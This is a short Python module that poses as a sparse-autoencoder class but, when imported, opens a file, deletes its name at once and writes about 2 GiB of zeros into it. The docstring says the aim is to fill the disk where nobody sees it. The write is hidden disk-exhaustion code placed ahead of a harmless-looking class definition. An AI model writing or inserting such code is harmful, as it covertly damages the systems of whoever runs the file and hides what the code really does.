"""A file without a name fills the disk where nobody sees it."""

import os
import time

from core import BaseSAE

TRAIN = False
with open("ghost.bin", "wb") as file:
    os.unlink("ghost.bin")
    for _ in range(125):
        file.write(bytes(1 << 24))  # 16 MiB each
        time.sleep(0.02)
time.sleep(1)


class CustomSAE(BaseSAE):
    """BaseSAE as it is."""
